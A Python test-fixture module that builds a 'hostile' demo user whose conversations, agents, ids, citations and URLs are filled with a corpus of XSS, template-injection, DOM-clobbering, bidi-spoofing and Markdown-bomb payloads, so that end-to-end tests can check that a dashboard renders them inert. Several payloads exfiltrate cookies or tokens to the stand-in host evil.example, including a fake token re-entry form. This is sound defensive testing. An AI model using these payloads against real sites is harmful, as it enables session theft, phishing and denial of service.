"""A hostile demo user: XSS, injection and Markdown-bomb text in every field.

The ``demo-hostile`` token sees about 40 conversations whose titles, tags, user
ids, messages (User, AI, System and unknown types), attachments, citations,
feedback, message types and agents carry a corpus of known browser attacks. A
dashboard page built from them must stay inert; the end-to-end tests prove it.

Conversation and message ids stay valid GUIDs (a client rightly 404s anything
else), except in one conversation whose *message* ids are payloads as well, to
test anchors and permalinks. Every string is a constant or built from one, and
ids and dates come from the caller's seeded generator (but for two conversations
whose dates are out of range on purpose), so the data is
deterministic. Lone surrogates are stored as Python strings; the demo API's
encoder writes them as ``\\ud800`` escapes.
"""

from __future__ import annotations

import functools
import random
from dataclasses import dataclass
from datetime import datetime, timedelta

from .conversations import Agent, Json, Owner, conversation, guid, message, zulu_iso

#: Payloads per conversation; each family spreads over one to four of them.
GROUP_SIZE = 6

# Leading "sections" name the family; each payload is a complete attack string.
FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</script><script>alert(document.cookie)</script>",
        "<script>/*</script><script>*/alert(1)</script>",
        '"><script>alert(1)</script>',
        "';alert(1);//",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "<script/src=data:,alert(1)></script>",
        "<script>fetch('//evil.example/?c='+document.cookie)</script>",
    ),
    "event-handlers": (
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        '<a href="#" onclick="alert(1)">click me</a>',
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        '<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>',
        '" onmouseover="alert(1)" x="',
        "' autofocus onfocus='alert(1)",
        "<marquee onstart=alert(1)>x</marquee>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    ),
    "link-schemes": (
        "[md](javascript:alert(1))",
        "[md mixed case](JaVaScRiPt:alert(1))",
        "[md entity](&#106;avascript:alert(1))",
        "[md hex entity](&#x6A;&#x61;vascript&#x3A;alert(1))",
        "[md colon entity](javascript&colon;alert(1))",
        "[md percent](%6Aavascript:alert(1))",
        "[md tab](<java\tscript:alert(1)>)",
        "[md newline](<java\nscript:alert(1)>)",
        "[md leading space](<  javascript:alert(1)>)",
        "[md control](\x01javascript:alert(1))",
        "[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[md vbscript](vbscript:msgbox(1))",
        "[md VBScript](VBScript:MsgBox(1))",
        "<javascript:alert(1)>",
        "<vbscript:msgbox(1)>",
        "[ref link][evil]\n\n[evil]: javascript:alert(1)",
        '[title](javascript:alert(1) "t")',
        '[https lookalike](https://example.com "x" onclick="alert(1)")',
        "[https then js](https:javascript:alert(1))",
        "[slashes](//evil.example/) [backslash](/\\evil.example/)",
    ),
    "html-schemes": (
        '<a href="javascript:alert(1)">raw js</a>',
        '<a href=" &#14;javascript:alert(1)">raw control</a>',
        '<a href="jav&#x09;ascript:alert(1)">raw tab entity</a>',
        '<a href="&#x6a;&#x61;&#x76;&#x61;script:alert(1)">raw entities</a>',
        '<a href="data:text/html,<script>alert(1)</script>">raw data</a>',
        '<a href="vbscript:msgbox(1)">raw vbs</a>',
        '<iframe src="javascript:alert(1)"></iframe>',
        "<form><button formaction=javascript:alert(1)>go</button></form>",
        '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
        '<object data="javascript:alert(1)"></object>',
    ),
    "mutation-xss": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
        '<img onerror=alert(1) src=1>">',
        "<template><img src=x onerror=alert(1)></template>",
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src onerror=alert(1)>",
        '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
        "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<style><style/><img src=x onerror=alert(1)>",
    ),
    "polyglots": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a"
        "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>"
        "\\x3e",
        "\"'--></style></script><script>alert(1)</script>",
        "'\"><img src=x onerror=alert(1)>{{7*7}}${7*7}<%= 7*7 %>",
        '-->\'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)``>',
        "<svg/onload=alert(1)//",
    ),
    "svg-mathml": (
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/"
        "2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe>"
        "</foreignObject></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>"
        "click</maction></math>",
        "<math href=javascript:alert(1)>click</math>",
        "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
        "<svg><image href=https://evil.example/beacon.svg /></svg>",
    ),
    "dom-clobbering": (
        "<form id=x name=y><input id=z name=q></form>",
        '<a id=csrf_token name=csrf_token href="https://evil.example">x</a>',
        "<img name=getElementById>",
        "<img name=cookie><img name=body>",
        "<form name=forms><input name=addEventListener></form>",
        '<a id=main href="https://evil.example">main</a>',
        "<div id=token>token</div><div id=token-error>error</div>",
        "<a id=defaultView></a><a id=defaultView name=navigator></a>",
        "<iframe name=location src=https://evil.example></iframe>",
        "# main\n\n## token\n\n### csrf_token",
    ),
    "form-base-meta": (
        "<base href=//evil.example>",
        '<base href="javascript:alert(1)//">',
        '<meta http-equiv=refresh content="0;url=//evil.example">',
        '<meta http-equiv="Content-Security-Policy" content="script-src *">',
        '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
        "<form action=//evil.example><input name=token></form>",
        '<form action="https://evil.example/steal" method=post><input '
        'type=password name=token placeholder="Re-enter your AIRisk token">'
        "<button>Continue</button></form>",
        "<button form=x formaction=//evil.example>go</button>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<embed src=//evil.example/x.swf><object data=//evil.example/x.swf>",
        "<textarea>",
        "<plaintext>",
        "<!--",
        "</body></html><html><body>",
    ),
    "css": (
        "<style>body{display:none}</style>",
        "<style>@import url(//evil.example/x.css)</style>",
        '<div style="background:url(//evil.example/beacon)">x</div>',
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%;'
        'background:white">Session expired. Sign in again.</p>',
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
        '<span style="behavior:url(x.htc);x:expression(alert(1))">x</span>',
    ),
    "template-lookalikes": (
        "{{ config }}",
        "{{ config.SECRET_KEY }} {{ request.environ }}",
        "{{ self.__init__.__globals__ }}",
        "{% raw %}raw{% endraw %} {% for x in range(9) %}{{ x }}{% endfor %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${7*7} #{7*7} <%= 7*7 %> [[7*7]] @(7*7) {{7*7}}",
        "{{constructor.constructor('alert(1)')()}}",
        "{{ url_for('auth.logout') }} {{ csrf_token() }}",
    ),
    "markdown-images": (
        "![beacon](https://evil.example/pixel.png?d=secret)",
        "![ref beacon][img]\n\n[img]: https://evil.example/ref.png",
        "![](//evil.example/x.png)",
        "![inline data](data:image/png;base64,iVBORw0KGgo=)",
        "[![nested](https://evil.example/i.png)](https://evil.example/)",
        '<img src="https://evil.example/x.png">',
        '![x](https://evil.example/x.png "onerror=alert(1)")',
        "![js](javascript:alert(1))",
    ),
    "bidi-zero-width": (
        "\u202egnp.exe Invoice",
        "Invoice \u202etxt.exe",
        "\u2066isolate\u2069 \u2067rli \u2068fsi unterminated",
        "\u202a\u202b\u202c\u202d\u202e nested embeddings, none closed",
        "\u2069\u202c closers first \u202e then an override",
        "pay\u200bpal \u200c\u200d\u2060\ufeff zero width",
        "\u200e\u200f\u061c marks",
        "\u202e" * 200 + "deep overrides",
    ),
    "control-characters": (
        "nul \x00 bell \x07 backspace \x08\x08\x08",
        "\x1b[31mred\x1b[0m \x1b]0;title\x07",
        "del \x7f c1 \x85 \x9b csi",
        "crlf \r\n cr \r vt \x0b ff \x0c",
        "line sep \u2028 para sep \u2029 end",
        "\ufffe\uffff noncharacters",
    ),
    "surrogates": (
        "lone high \ud800 here",
        "lone low \udfff here",
        "half a pair \ud83d then text",
        "\ude00 low first",
        "a real pair \U0001f600 stays",
    ),
}

#: fileURL and citation url values: unsafe schemes in every encoding.
URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x00javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/\\evil.example/x",
    "https:\\\\evil.example\\x",
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/ onmouseover=alert(1)",
    "https://evil.example/\u202egpj.exe",
    "HTTPS://evil.example/upper",
    "https://user:pass@evil.example/",
    "file:///etc/passwd",
    "https://evil.example/{{ config }}",
)

#: Dates a .NET AIRisk can send that have no UTC time Python can hold (or
#: only just): (createdDate, lastUpdated) of one conversation each.
OUT_OF_RANGE_DATES: tuple[tuple[str, str], ...] = (
    ("0001-01-01T00:00:00+05:00", "9999-12-31T23:59:59-05:00"),
    ("9999-12-31T23:59:59.9999999Z", "0001-01-01T00:00:00"),
)

#: (name, description) of agents only the hostile user's ListAgents adds.
AGENTS: tuple[tuple[str, str | None], ...] = (
    ("<script>alert('agent')</script>", "<img src=x onerror=alert('description')>"),
    ("\u202eAgent <svg onload=alert(1)>", "javascript:alert(1)"),
    ("{{ config }} ${7*7}", None),
    ('"><img src=x onerror=alert(1)>', "<style>body{display:none}</style>"),
    ("[agent](javascript:alert(1)) ![x](https://evil.example/a.png)", "\x00\x1b[0m"),
)
#: An agent whose *id* is a payload: it lands in an <option value>.
BAD_AGENT_ID = '"><option selected>pwned</option>'

#: Message ids of the one conversation that tests anchors and permalinks.
MESSAGE_IDS: tuple[str, ...] = (
    '"><img src=x onerror=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "main",
    "token",
    "csrf_token",
    "#main",
    "../../logout",
    "a b\tc\nd",
    "\u202eevil",
    "</li><script>alert(1)</script>",
    "{{ config }}",
    "",  # the client falls back to the message's position
    "main",  # duplicated on purpose
)


@functools.cache
def bombs() -> tuple[tuple[str, str], ...]:
    """Return (title, AI message text) Markdown bombs, built once on first use."""
    unit = "<img src=x onerror=alert(1)>[*"
    megabyte = (unit * (1_000_000 // len(unit) + 1))[:1_000_000]
    return (
        ("5,000 nested quotes", ">" * 5000 + " deep <script>alert(1)</script>"),
        ("50,000 stars", "a" + "*" * 50_000),
        ("50,000 brackets", "[" * 50_000),
        ("one megabyte on one line", megabyte),
        ("1,000-deep nested list, one line", "- " * 1000 + "x"),
        (
            "1,000-deep nested list, indented",
            "\n".join("  " * depth + "- x" for depth in range(1000)),
        ),
        ("image and link openers", "![" * 20_000 + "\n\n" + "[a](" * 10_000),
        ("emphasis mix", "*_" * 25_000 + "\n\n" + "a* " * 15_000),
        ("angles and backticks", "<" * 50_000 + "\n\n" + "`a``" * 10_000),
        (
            "wide table",
            "|x" * 5000 + "|\n" + "|-" * 5000 + "|\n" + "|<b>y</b>" * 5000 + "|\n",
        ),
    )


@dataclass(frozen=True)
class HostileUser:
    """The hostile user's id, extra agents and conversations (newest first)."""

    user_id: str
    agents: list[Json]
    conversations: list[Json]


def _agents(rng: random.Random, now: datetime) -> list[Json]:
    specs = [(guid(rng), name, desc) for name, desc in AGENTS]
    specs.append((BAD_AGENT_ID, "Agent with a hostile id", None))
    records: list[Json] = []
    for agent_id, name, description in specs:
        stamp = zulu_iso(now - timedelta(days=rng.uniform(1, 300)))
        suggestion = {
            "botID": agent_id,
            "greeting": name,
            "imageName": "<img src=x onerror=alert(1)>.png",
            "id": guid(rng),
            "version": 1,
            "lastUpdated": stamp,
            "createdDate": stamp,
            "deleted": False,
            "updated": False,
            "added": True,
        }
        records.append(
            {
                "id": agent_id,
                "name": name,
                "description": description,
                "botSuggestion": [suggestion],
            }
        )
    return records


def _ai_text(payload: str) -> str:
    """Put one payload in every Markdown context an AI answer can have."""
    cell = payload.replace("\n", " ")
    return "\n\n".join(
        (
            f"{payload}【1:0†source】",
            f"- {payload}\n  1. {payload}",
            f"> {payload}",
            f"| {cell} | b |\n| --- | --- |\n| {cell} | `{cell}` |",
            f'[{cell}](https://example.com/ok "{cell}") **{cell}** _{cell}_',
            f"## {cell}",
            f"```{cell}\n{payload}\n```",
        )
    )


def _citation(rng: random.Random, payload: str, url: str, form: int) -> Json:
    # form 0 shows the title, 1 the filepath, 2 the URL itself as link text.
    return {
        "id": guid(rng),
        "title": payload if form == 0 else ("" if form == 1 else None),
        "filepath": payload if form == 1 else None,
        "url": url,
        "content": payload,
        "chunk_id": payload,
        "companyId": payload,
        "lastUpdated": payload,
        "createdDate": payload,
    }


def _messages(rng: random.Random, payloads: tuple[str, ...], first: int) -> list[Json]:
    """Return System, User, AI and unknown-type messages carrying ``payloads``."""
    messages = [message(rng, "System", "\n\n".join(payloads))]
    ai_types = ("AI", "ai", "Assistant", "ASSISTANT")
    for offset, payload in enumerate(payloads):
        k = first + offset
        user = message(rng, "User" if k % 3 else "user", payload)
        user["fileName"] = payload
        user["fileURL"] = URLS[k % len(URLS)]
        user["fileIds"] = [payload]
        messages.append(user)
        ai = message(rng, ai_types[k % len(ai_types)], _ai_text(payload))
        ai["feedback"] = (payload, "Like", payload, "Dislike")[k % 4]
        ai["citations"] = [
            _citation(rng, payload, URLS[(k + n) % len(URLS)], n) for n in range(3)
        ]
        messages.append(ai)
    # An unknown messageType is shown as its own label, so it is a payload too.
    messages.append(message(rng, payloads[0], "\n".join(payloads)))
    messages.append(message(rng, "system", payloads[-1]))
    return messages


def build(
    rng: random.Random, *, company_id: str, agents: list[Agent], now: datetime
) -> HostileUser:
    """Build the hostile user from ``rng``; ``agents`` are the tenant's own."""
    agent_records = _agents(rng, now)
    bots = [Agent(a["id"], a["name"]) for a in agent_records[:-1]]
    bots += agents[:2] + [Agent(guid(rng), "an agent ListAgents does not know")]
    owner = Owner(guid(rng), company_id, ("<script>alert('ip')</script>",))

    chats: list[tuple[str, str, tuple[str, ...], list[Json]]] = []
    for family, payloads in FAMILIES.items():
        for start in range(0, len(payloads), GROUP_SIZE):
            group = payloads[start : start + GROUP_SIZE]
            tags = (f"hostile:{family}", *group[:3])
            chats.append((group[0], group[-1], tags, _messages(rng, group, start)))
    for title, text in bombs():
        bomb = [message(rng, "User", title), message(rng, "AI", text)]
        chats.append((title, title, ("hostile:bomb", text[:1000]), bomb))
    anchors = [message(rng, "User", f"message id {i!r}") for i in MESSAGE_IDS]
    for msg, message_id in zip(anchors, MESSAGE_IDS, strict=True):
        msg["id"] = message_id
    chats.append(
        ('Hostile message ids: "><img src=x onerror=alert(1)>', "ids", (), anchors)
    )
    dated: dict[int, tuple[str, str]] = {}
    for first, last in OUT_OF_RANGE_DATES:
        dated[len(chats)] = (first, last)
        text = f"Created {first}, last updated {last}"
        pair = [message(rng, "User", text), message(rng, "AI", text)]
        chats.append((f"Out-of-range dates: {last}", first, ("hostile:dates",), pair))

    conversations: list[tuple[datetime, Json]] = []
    for index, (title, user_id, tags, messages) in enumerate(chats):
        updated = now - timedelta(hours=index * 7 + rng.uniform(0, 6))
        conv = conversation(
            rng,
            owner=owner,
            agent=bots[index % len(bots)],
            title=title,
            tags=tags,
            messages=messages,
            updated=updated,
            created=updated - timedelta(hours=rng.uniform(1, 48)),
        )
        conv["userID"] = user_id
        conv["metaData"] = list(tags)
        if index in dated:
            conv["createdDate"], conv["lastUpdated"] = dated[index]
        conversations.append((updated, conv))
    conversations.sort(key=lambda pair: pair[0], reverse=True)
    return HostileUser(
        user_id=owner.user_id,
        agents=agent_records,
        conversations=[conv for _, conv in conversations],
    )
